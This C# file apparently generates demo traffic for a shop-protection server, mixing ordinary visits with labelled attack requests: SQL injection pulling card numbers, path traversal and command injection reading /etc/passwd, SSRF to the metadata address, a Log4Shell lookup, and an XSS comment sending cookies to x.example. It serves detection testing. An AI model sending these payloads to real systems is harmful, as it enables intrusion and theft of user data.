using System.Globalization;
using System.Net.Http.Headers;
using System.Text;

namespace Weir.Server.Demo;

/// <summary>Makes requests as different visitors of the shop would, from one seed. Attacks are inert texts: the shop believes nothing.</summary>
internal sealed class DemoRequests(ulong seed)
{
    /// <summary>Address of the one who edits the shop's pages.</summary>
    public const string Editor = "10.0.0.12";

    private static readonly string[] s_words = ["rain jacket", "boots size 42", "wool socks", "stove & gas", "head lamp", "tent for 2", "50% off", "O'Neill", "sleeping-bag +5°", "water filter"];
    private static readonly string[] s_names = ["rain-jacket", "trail-boots", "wool-socks", "camp-stove", "head-lamp", "sleeping-bag", "tent-two", "water-filter"];
    private static readonly string[] s_comments = ["Fits well, even over a fleece.", "Arrived in two days. Thank you!", "Is it waterproof? I'd like to use it at sea.", "Great value; the zip could be better...", "5/5 <3"];
    private static readonly string[] s_agents = ["Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1"];
    private static readonly string[] s_probes =
    [
        "/search?q=" + "1%27%20OR%20%271%27=%271", "/products?file=../../../../etc/passwd", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/api/status?host=127.0.0.1;cat%20/etc/passwd",
        "/?name={{7*7}}", "/render?url=http://169.254.169.254/latest/meta-data/", "/search?q=%24%7Bjndi:ldap://x.example/a%7D", "/login?user=admin)(%26(password=*))", "/products?sort[$where]=sleep(1000)",
        "/static/..%2f..%2f..%2fwindows/win.ini", "/cgi-bin/test?x=%60id%60", "/wp-login.php", "/.git/config", "/admin/", "/phpinfo.php",
    ];

    private static readonly string[] s_injections =
    [
        "' union select card_number, holder from payments --", "'; update users set role='admin' where name='eve' --", "1' and (select count(*) from information_schema.tables) > 0 --",
        "' or exists(select 1 from users where password like 'a%') --", "x' and extractvalue(1, concat(0x7e, version())) --",
    ];

    private static readonly string[] s_banners =
    [
        "<script>document.cookie='sale=seen';setTimeout(function(){document.getElementById('sale').remove()},5000)</script>",
        """<img src="/img/sale.png" onerror="this.remove()"><script>setTimeout(function(){document.getElementById('sale').remove()},5000)</script>""",
        """<img src="/sale.png" onclick="location.href='/sale'">""",
    ];

    private readonly Random _random = new((int)(seed & int.MaxValue));

    /// <summary>The next request of somebody. Most are harmless.</summary>
    public HttpRequestMessage Next() => _random.Next(100) switch
    {
        < 86 => Visit($"198.51.100.{_random.Next(1, 60)}"),
        < 88 => EditPage(),
        < 95 => Get(Pick(s_probes), "203.0.113.66", "Mozilla/5.0 (compatible; scanner)"),
        < 98 => Get("/search?q=" + Uri.EscapeDataString(Pick(s_words) + Pick(s_injections)), "192.0.2.200", Pick(s_agents)),
        _ => Comment($"192.0.2.{_random.Next(201, 204)}", $"{Pick(s_comments)} <img src=x onerror=\"fetch('//x.example/'+document.cookie)\">"),
    };

    private HttpRequestMessage Visit(string client)
    {
        string agent = s_agents[client[^1] % s_agents.Length];
        return _random.Next(10) switch
        {
            0 => Get("/", client, agent),
            1 => Get("/products", client, agent),
            2 or 3 or 4 => Get($"/products/{Pick(s_names)}", client, agent),
            5 => Get("/search?q=" + Uri.EscapeDataString(Pick(s_words)), client, agent),
            6 => Get($"/api/orders/{_random.Next(1000, 9999)}", client, agent),
            7 => Post("/api/cart", client, agent, string.Create(CultureInfo.InvariantCulture, $$"""{"product":"{{Pick(s_names)}}","count":{{_random.Next(1, 4)}},"note":"{{Pick(s_comments).Replace("\"", "", StringComparison.Ordinal)}}"}"""), "application/json"),
            8 => Post("/login", client, agent, $"user={Pick(s_names)}%40mail.example&password=correct-horse-{_random.Next(1000)}", "application/x-www-form-urlencoded"),
            _ => Comment(client, Pick(s_comments)),
        };
    }

    /// <summary>The shop's own people change a page, scripts and all: an attack anywhere else, harmless here, and what an exclusion is for.</summary>
    private HttpRequestMessage EditPage() => Post(
        "/admin/pages", Editor, s_agents[0], $"page={(_random.Next(2) == 0 ? "home" : "sale")}&html={Uri.EscapeDataString(Pick(s_banners))}", "application/x-www-form-urlencoded");

    private HttpRequestMessage Comment(string client, string text) =>
        Post($"/products/{Pick(s_names)}/comments", client, Pick(s_agents), "text=" + Uri.EscapeDataString(text), "application/x-www-form-urlencoded");

    private static HttpRequestMessage Get(string target, string client, string agent) => As(new HttpRequestMessage(HttpMethod.Get, new Uri(target, UriKind.Relative)), client, agent);

    private static HttpRequestMessage Post(string target, string client, string agent, string body, string type)
    {
        var content = new ByteArrayContent(Encoding.UTF8.GetBytes(body));
        content.Headers.ContentType = new MediaTypeHeaderValue(type);
        return As(new HttpRequestMessage(HttpMethod.Post, new Uri(target, UriKind.Relative)) { Content = content }, client, agent);
    }

    private static HttpRequestMessage As(HttpRequestMessage request, string client, string agent)
    {
        request.Headers.Host = "shop.example";
        request.Headers.TryAddWithoutValidation("User-Agent", agent);
        request.Headers.TryAddWithoutValidation("Accept", "text/html,application/xhtml+xml,*/*;q=0.8");
        request.Headers.TryAddWithoutValidation("X-Forwarded-For", client);
        return request;
    }

    private string Pick(string[] texts) => texts[_random.Next(texts.Length)];
}
